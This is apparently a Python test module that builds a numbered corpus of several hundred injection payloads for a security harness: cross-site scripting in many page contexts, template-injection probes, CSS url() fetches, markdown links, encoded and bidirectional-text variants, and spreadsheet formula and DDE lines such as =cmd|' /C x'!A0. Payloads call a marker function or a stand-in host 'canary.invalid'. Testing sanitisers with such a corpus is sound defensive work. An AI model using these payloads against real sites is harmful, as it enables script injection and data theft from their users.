"""What an attacker types: over 500 texts, each meant for one unguarded place of a page (SECURITY B7, C1, C2).

A text calls `__x(n)`, opens a dialog, asks a foreign host or has the server reckon; which of them is told to the
watcher by number. `place` says where it would bite, so that the control page can show that the watcher would see it.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count

FOREIGN = "canary.invalid"
"""A host nobody has; a request to it is an execution."""
SUM, PRODUCT = "1337*7331", "9801547"
"""What a template engine would make of it."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, its class, and the place it is meant for: a key of `a3_control.PLACES`."""

    number: int
    kind: str
    text: str
    place: str


def payloads() -> list[Payload]:
    """Give all of them, each text once, numbered from 1."""
    numbers, found, seen = count(1), list[Payload](), set[str]()
    for kind, place, pattern in _patterns():
        number = next(numbers)
        text = pattern.replace("@J@", _call(number)).replace("@N@", str(number)).replace("@H@", FOREIGN)
        if text in seen:
            continue
        seen.add(text)
        found.append(Payload(number, kind, text, place))
    return found


def _call(number: int) -> str:
    """Give a call the watcher hears, in turns of one of several kinds."""
    return (
        f"__x({number})",
        f"alert({number})",
        f"window.__x({number})",
        f"self['__x']({number})",
        f"top.__x?.({number})||__x({number})",
        f"confirm({number})",
    )[number % 6]


Pattern = tuple[str, str, str]


def _patterns() -> Iterator[Pattern]:
    for part in (_scripts, _events, _touched, _attributes, _addresses, _drawings, _formulas, _embedded, _styles):
        yield from part()
    for part in (_in_scripts, _templates, _markdown, _odd, _coded, _sheets):
        yield from part()


def _scripts() -> Iterator[Pattern]:
    tags = ("<script>@J@</script>", "<ScRiPt>@J@</sCrIpT>", "<script\n>@J@</script\t>", "<script/a3>@J@</script>")
    tags += ("<script a3 type=module>@J@</script>", "<script a3 src=//@H@/@N@.js></script>", "<script>/*a3*/@J@//")
    tags += ("<script src=data:text/javascript,@J@></script>", "<script type=text/javascript>@J@</script >")
    tags += ("<svg><script>@J@</script></svg>", "<svg><script href=data:,@J@ /></svg>", "<script>@J@<!--</script>")
    for tag in tags:
        yield "script", "body", tag
    closed = ("title", "textarea", "style", "noscript", "select", "option", "button", "template", "xmp", "iframe")
    for name in closed:
        yield "script", name if name in ("title", "textarea", "style") else "body", f"</{name}><script>@J@</script>"
    for before in ('">', "'>", "-->", "--!>", "]]>", "/>", "</p></div>", "</td></tr></table>", "</a>", "</svg>", "?>"):
        place = {'">': "double", "'>": "single", "-->": "comment", "--!>": "comment"}.get(before, "body")
        yield "script", place, f"{before}<script>@J@</script>"


SELF_FIRING = (
    ("img src=x", "error"),
    ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==", "load"),
    ("image src=x", "error"),
    ("svg", "load"),
    ("body", "pageshow"),
    ("input autofocus", "focus"),
    ("select autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("button autofocus", "focus"),
    ("a href=# autofocus", "focus"),
    ("div tabindex=0 autofocus", "focus"),
    ("details open", "toggle"),
    ("video src=x", "error"),
    ("audio src=x", "error"),
    ("audio src=x", "loadstart"),
    ("video><source src=x", "error"),
    ("object data=x", "error"),
    ("iframe src=about:blank", "load"),
    ("iframe srcdoc=1", "load"),
    ("embed src=data:text/html,1", "load"),
    ("style", "load"),
    ("link rel=stylesheet href=data:text/css,a", "load"),
    ("link rel=stylesheet href=x:", "error"),
    ("script src=x:", "error"),
    ("marquee", "start"),
    ("picture><img src=x", "error"),
    ("img srcset=x", "error"),
    ("input type=image src=x", "error"),
    ("div contenteditable autofocus", "focus"),
    ("summary tabindex=0 autofocus", "focus"),
)
UNQUOTED = ("on{event}=@J@>", ' on{event}="@J@">', " ON{EVENT}='@J@'>", "/on{event}=@J@>", "\non{event}\n=\n@J@\n>")


def _events() -> Iterator[Pattern]:
    """Handlers that fire by themselves, each written in several ways."""
    for tag, event in SELF_FIRING:
        for number, written in enumerate(UNQUOTED):
            handler = written.replace("{event}", event).replace("{EVENT}", event.upper())
            if handler.startswith("on"):
                handler = f" a3 {handler}"
            if handler.startswith("/") and "=" in tag.rpartition(" ")[2]:
                handler = f" a3{handler}"  # a slash would belong to the value before it
            close = f"</{tag.split(' ')[0].partition('>')[0]}>" if number % 2 else ""
            yield "event", "body", f"<{tag}{handler}{close}"
    for name in ("animate attributeName=x dur=1s", "set attributeName=x", "animateTransform attributeName=transform"):
        yield "event", "body", f"<svg><{name} onbegin=@J@ />"
    yield "event", "body", "<style>@keyframes a3{}</style><b style=animation-name:a3 onanimationstart=@J@>"
    yield "event", "body", "<style>@keyframes a3{}</style><b style='animation:a3 1s' onanimationend=@J@>"


TOUCHES = (
    "click",
    "dblclick",
    "mouseover",
    "mouseenter",
    "mousemove",
    "pointerdown",
    "pointerover",
    "keydown",
    "keyup",
)
TOUCHES += ("touchstart", "wheel", "contextmenu", "copy", "paste", "drag", "drop", "scroll", "input", "change", "blur")
TOUCHES += ("submit", "reset", "beforeinput", "auxclick", "gotpointercapture", "selectstart", "invalid", "cut")


def _touched() -> Iterator[Pattern]:
    """Handlers that wait for a hand; the watcher finds them by their attribute."""
    for event in TOUCHES:
        yield "touched", "body", f"<b on{event}=@J@>x</b>"
        yield "touched", "double", f'" on{event}="@J@'
        yield "touched", "single", f"' on{event}='@J@"


def _attributes() -> Iterator[Pattern]:
    fire = ("autofocus tabindex=1 onfocus=@J@ a3=", "style=display:block onfocus=@J@ autofocus a3=")
    for what in fire:
        for gap in (" ", "\t", "\n", "/", "\f"):
            yield "attribute", "double", f'"{gap}{what}"'
            yield "attribute", "single", f"'{gap}{what}'"
    yield "attribute", "bare", "x onfocus=@J@ autofocus "
    yield "attribute", "bare", "x\tonfocus=@J@\tautofocus\ta3="
    yield "attribute", "bare", "x/onfocus=@J@/autofocus/"
    for breaker in ('"', "'", "\"'", "'\"", '">', "'>", '"/>', "\"'>"):
        place = "single" if breaker.startswith("'") else "double"
        close = ">" if not breaker.endswith(">") else ""
        for tag in ("<img src=x onerror=@J@>", "<svg/onload=@J@>", "<input onfocus=@J@ autofocus>"):
            yield "attribute", place, f"{breaker}{close}{tag}"


def _addresses() -> Iterator[Pattern]:
    ways = ("javascript:@J@", "JavaScript:@J@", "jAvAsCrIpT:@J@", " javascript:@J@", "java\tscript:@J@")
    ways += ("java\nscript:@J@", "\x01javascript:@J@", "javascript\t:@J@", "javascript://%0a@J@", "javascript://x\n@J@")
    ways += ("javascript:void(@J@)", "javascript:'<b>'+@J@", "\x1fjavascript:@J@", "javascript:/*a*/@J@//")
    ways += ("data:text/html,<script>@J@</script>", "data:text/html;charset=utf-8,<img src=x onerror=@J@>")
    ways += ("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@J@'/>", "vbscript:@J@")
    for way in ways:
        yield "address", "link", way
    for tag in ("<a href='{}'>x</a>", '<form action="{}"><button>x</button></form>', "<iframe src='{}'></iframe>"):
        yield "address", "body", tag.format("javascript:@J@")
        yield "address", "body", tag.format("&#106;avascript&colon;@J@")
    for tag in ("<button formaction='{}' form=x>x</button>", "<object data='{}'></object>", "<embed src='{}'>"):
        yield "address", "body", tag.format("javascript:@J@")
        yield "address", "body", tag.format("data:text/html,<script>@J@</script>")
    yield "address", "body", "<area href='javascript:@J@'>"
    yield "address", "body", "<base href='//@H@/@N@/'>"
    yield "address", "body", "<meta http-equiv=refresh content='999;url=javascript:@J@'>"
    yield "address", "body", "<img src=//@H@/@N@.png>"
    yield "address", "body", "<link rel=stylesheet href=//@H@/@N@.css>"
    yield "address", "body", "<link rel=prefetch a3 href=//@H@/@N@><img src=http://@H@/@N@>"
    yield "address", "body", "<video poster=//@H@/@N@.jpg></video>"
    yield "address", "body", "<input type=image src=//@H@/@N@.gif>"
    yield "address", "body", "<iframe src=//@H@/@N@></iframe>"
    yield "address", "body", "<object data=//@H@/@N@></object>"
    yield "address", "double", '"><img src="//@H@/@N@.png'


def _drawings() -> Iterator[Pattern]:
    for inner in (
        "<a xlink:href='javascript:@J@'><text y=9>x</text></a>",
        "<a href='javascript:@J@'><text y=9>x</text></a>",
        "<foreignObject><img src=x onerror=@J@></foreignObject>",
        "<title><img src=x onerror=@J@></title>",
        "<desc><img src=x onerror=@J@></desc>",
        "<style><img src=x onerror=@J@></style>",
        "<p><style><a id='</style><img src=x onerror=@J@>'>",
        "<image href=x onerror=@J@ />",
        "<image xlink:href=//@H@/@N@.svg />",
        "<g onload=@J@ a3 />",
        "<animate xlink:href=#a3 attributeName=href values=javascript:@J@ /><a id=a3><text y=9>x</text></a>",
        "<script>a3:{@J@}</script>",
        "<script>//&NewLine;@J@</script>",
        "<script>&#95;&#95;x(@N@)</script>",
        "<a><script xlink:href=data:text/javascript,@J@ />",
        "<switch><foreignObject><iframe srcdoc='<script>parent.__x(@N@)</script>'>",
    ):
        yield "svg", "body", f"<svg>{inner}</svg>"
    yield "svg", "body", "<svg onload=@J@//"
    yield "svg", "body", "<svg\x0conload\x0c=\x0c@J@\x0c>"
    yield "svg", "body", "<svg><svg onload=@J@>"
    yield "svg", "body", "<svg id=a3 onload='@J@' onload=1>"


def _formulas() -> Iterator[Pattern]:
    image = "<img src=x onerror=@J@>"
    for inner in (
        f"<mtext>{image}</mtext>",
        f"<mi>{image}</mi>",
        f"<mo>{image}</mo>",
        f"<ms>{image}</ms>",
        f"<mn>{image}</mn>",
        f"<annotation-xml encoding=text/html>{image}</annotation-xml>",
        f"<annotation-xml encoding=application/xhtml+xml>{image}</annotation-xml>",
        f"<style>{image}</style>",
        f"<mtext><table><mglyph><style><!--</style><img title='--&gt;{image}'>{image}",
        f"<mtext><mglyph><style></math>{image}",
        f"<xmp>{image}</xmp>",
        f"<p>{image}",
        "<maction actiontype=statusline xlink:href=javascript:@J@>x</maction>",
        "<mi href=javascript:@J@>x</mi>",
        "<mrow onclick=@J@>x</mrow>",
    ):
        yield "mathml", "body", f"<math>{inner}</math>"
    yield "mathml", "body", "<math href=javascript:@J@>x</math>"


def _embedded() -> Iterator[Pattern]:
    yield "embedded", "body", "<iframe srcdoc='<script>parent.__x(@N@)</script>'></iframe>"
    yield "embedded", "body", "<iframe srcdoc=&lt;script&gt;parent.__x(@N@)&lt;/script&gt;></iframe>"
    yield "embedded", "body", "<iframe srcdoc='<img src=x onerror=parent.__x(@N@)>'></iframe>"
    yield "embedded", "body", "<object data='data:text/html,<script>@J@</script>' a3></object>"
    yield "embedded", "body", "<noscript><p title='</noscript><img src=x onerror=@J@>'>"
    yield "embedded", "body", "<table><td background=//@H@/@N@.png>x</table>"
    yield "embedded", "body", "<template><p></template><img src=x onerror=@J@>"
    yield "embedded", "body", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@J@>"
    yield "embedded", "body", "<select><style></select><img src=x onerror=@J@></style>"
    yield "embedded", "body", "<plaintext a3 onclick=@J@>"
    for tag in ("a3-x", "keygen", "isindex", "layer", "blink", "bgsound", "portal", "fencedframe"):
        yield "embedded", "body", f"<{tag} onclick=@J@ a3>x"


def _styles() -> Iterator[Pattern]:
    for text in (
        "red;background:url(//@H@/@N@)",
        "red}*{background:url(//@H@/@N@)}p{",
        "red;}body{background:url('//@H@/@N@')}",
        "#fff;background-image:image-set('//@H@/@N@' 1x)",
        "red;list-style:url(//@H@/@N@);display:list-item",
        "red;content:url(//@H@/@N@)",
        "red}@font-face{font-family:a3;src:url(//@H@/@N@)}*{font-family:a3",
        "red;border-image:url(//@H@/@N@) 1;border-style:solid",
        "var(--a3);background:url(//@H@/@N@)",
        "red/**/;background:url(//@H@/@N@)/**/",
        "\\72 ed;background:u\\72l(//@H@/@N@)",
        "red;}\n@media all{*{background:url(//@H@/@N@)}}",
        "red;mask:url(//@H@/@N@)",
        "red;cursor:url(//@H@/@N@),auto",
        "red;shape-outside:url(//@H@/@N@)",
        "12px;background:url(//@H@/@N@)",
        "0}:root{background:url(//@H@/@N@)",
        '1rem;--a3:1;background:url("//@H@/@N@")',
        "#000000;background:url(//@H@/@N@)",
        "rgb(0 0 0);background:url(//@H@/@N@)",
    ):
        yield "css", "style", text
    yield "css", "sheet", "@import '//@H@/@N@.css';"
    yield "css", "sheet", "@import url(//@H@/@N@.css);"
    yield "css", "style", "red}</style><img src=x onerror=@J@>"
    yield "css", "style", "</style><svg onload=@J@>"
    yield "css", "inline", "color:red;background:url(//@H@/@N@)"
    yield "css", "inline", "x:expression(@J@);background:url(//@H@/@N@)"


def _in_scripts() -> Iterator[Pattern]:
    for quote, place in (('"', "string"), ("'", "single_string"), ("`", "ticks")):
        for text in ("{q};@J@;//", "{q}-@J@-{q}", "{q}+@J@+{q}", "{q},@J@,{q}", "{q}\n;@J@//", "{q}||@J@//"):
            yield "json", place, text.format(q=quote)
    yield "json", "ticks", "${@J@}"
    yield "json", "string", '\\";@J@//'
    yield "json", "bare_string", "1;@J@"
    for end in ("</script>", "</ScRiPt>", "</script >", "</script/a3>", "</script\n>", '"}</script>', "]]></script>"):
        yield "json", "data", f"{end}<script>@J@</script>"
        yield "json", "data", f"{end}<img src=x onerror=@J@>"
    yield "json", "data", "</script><!--<script>--><svg onload=@J@>"
    yield "json", "string", "</script><script>@J@</script>"
    yield "json", "string", "<!--<script></script><script>@J@</script>"
    yield "json", "string", '\u2028";@J@//'
    yield "json", "string", '";\u2029@J@//'


def _templates() -> Iterator[Pattern]:
    for text in (
        "{{@S@}}",
        "{{ @S@ }}",
        "{%print(@S@)%}",
        "{% set a=@S@ %}{{a}}",
        "{%if 1%}{{@S@}}{%endif%}",
        "{{(@S@)|string}}",
        "{{'%d'|format(@S@)}}",
        "{% for a in [@S@] %}{{a}}{% endfor %}",
        "{{[@S@]|join}}",
        "{{ dict(a=@S@).a }}",
        "{%- set b = @S@ -%}{{- b -}}",
        "{{cycler.__init__.__globals__.os and @S@}}",
        "{{lipsum.__globals__['os'] and @S@}}",
        "{{''.__class__.__mro__[1] and @S@}}",
        "{{ namespace(a=@S@).a }}",
        "{% macro m() %}{{@S@}}{% endmacro %}{{m()}}",
        "{% filter upper %}{{@S@}}{% endfilter %}",
        "{{ joiner.__init__ and @S@ }}",
        "{# a3 #}{{@S@}}",
        "{{'{{'}}{{@S@}}",
        "{%raw%}{%endraw%}{{@S@}}",
        "{{ self and @S@ }}",
        "{{''|attr('__class__') and @S@}}",
        "{{range.__class__ and @S@}}",
    ):
        yield "template", "template", text.replace("@S@", SUM)
    for begin, end in (("${", "}"), ("<%=", "%>"), ("#{", "}"), ("[[", "]]"), ("*{", "}"), ("@(", ")"), ("{{=", "}}")):
        yield "template", "other_template", f"{begin}{SUM}{end}"
    yield "template", "other_template", "{{constructor.constructor('@J@')()}}" + SUM
    yield "template", "formatted", "{a.__class__}" + SUM


def _markdown() -> Iterator[Pattern]:
    for way in ("javascript:@J@", "JAVASCRIPT:@J@", "java\tscript:@J@", "data:text/html,<script>@J@</script>"):
        yield "markdown", "markdown", f"[x]({way})"
        yield "markdown", "markdown", f"**[x]({way})**"
    for text in (
        "[x](<javascript:@J@>)",
        "<javascript:@J@>",
        "![x](//@H@/@N@.png)",
        '![x](x" onerror="@J@)',
        '[x](x" onmouseover="@J@)',
        "[x](javascript&colon;@J@)",
        "[x](javascript:@J@ 'a3')",
    ):
        yield "markdown", "markdown", text
    yield "markdown", "markdown", "# <img src=x onerror=@J@>"
    yield "markdown", "markdown", "* <svg onload=@J@>"
    yield "markdown", "markdown", "`</code><img src=x onerror=@J@>`"


def _odd() -> Iterator[Pattern]:
    """NUL, control signs, signs that turn the direction of writing, halves of letters, very long names."""
    image = "<img src=x onerror=@J@>"
    for sign in ("\x00", "\x01", "\x08", "\x0b", "\x7f", "\x85", "\ufeff", "\ufffd", "\u00ad", "\u200b", "\u3164"):
        yield "null", "body", f"{sign}{image}"
        yield "null", "body", f"<img src=x{sign} onerror=@J@>"
    for sign in ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c", "\u202b"):
        yield "bidi", "body", f"{sign}{image}\u202c"
        yield "bidi", "double", f'{sign}" onfocus="@J@" autofocus a3="'
    yield "null", "body", f"{'a' * 90}{image}"
    yield "null", "body", f"<{'a' * 60} onclick=@J@>"


def _coded() -> Iterator[Pattern]:
    """Texts that bite once something decodes them a second time."""
    yield "coded", "decoded", "&lt;img src=x onerror=@J@&gt;"
    yield "coded", "decoded", "&#60;svg onload=@J@&#62;"
    yield "coded", "decoded", "&#x3c;script&#x3e;@J@&#x3c;/script&#x3e;"
    yield "coded", "decoded", "&LT;svg onload=@J@&GT;"
    yield "coded", "unquoted", "%3Cimg src=x onerror=@J@%3E"
    yield "coded", "unquoted", "%3Cscript%3E@J@%3C/script%3E"
    yield "coded", "unquoted", "%253Csvg onload=@J@%253E"
    yield "coded", "folded", "＜img src=x onerror=@J@＞"
    yield "coded", "folded", "﹤svg onload=@J@﹥"
    yield "coded", "escaped", "\\u003cimg src=x onerror=@J@\\u003e"
    yield "coded", "escaped", "\\x3csvg onload=@J@\\x3e"
    yield "coded", "stripped", "<scr<script>ipt>@J@</scr</script>ipt>"
    yield "coded", "stripped", "<<script>script>@J@</script>"


def _sheets() -> Iterator[Pattern]:
    for text in (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://@H@/@N@")',
        "=cmd|' /C x'!A0",
    ):
        yield "sheet", "sheet_cell", text
    for text in (
        '=IMPORTXML("http://@H@/@N@","//a")',
        '=WEBSERVICE("http://@H@/@N@")',
        "+cmd|'x'!A0",
        "-2+3+cmd|'x'!A0",
    ):
        yield "sheet", "sheet_cell", text
